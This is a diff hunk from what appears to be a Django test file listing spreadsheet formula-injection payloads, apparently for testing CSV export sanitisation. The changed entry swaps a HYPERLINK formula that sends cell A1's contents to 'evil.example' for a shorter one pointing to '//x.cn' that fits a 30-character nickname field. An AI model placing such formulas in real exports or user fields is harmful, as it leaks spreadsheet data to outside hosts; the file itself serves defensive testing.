@@ -18,7 +18,7 @@ from tests.factories import UserFactory
 pytestmark = pytest.mark.django_db
 
 FORMULAS = [
-    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
+    '=HYPERLINK("//x.cn?"&A1,"点")',  # nicknames are at most 30 characters
     "+1+1",
     "-2+3",
     "@SUM(A1:A9)",
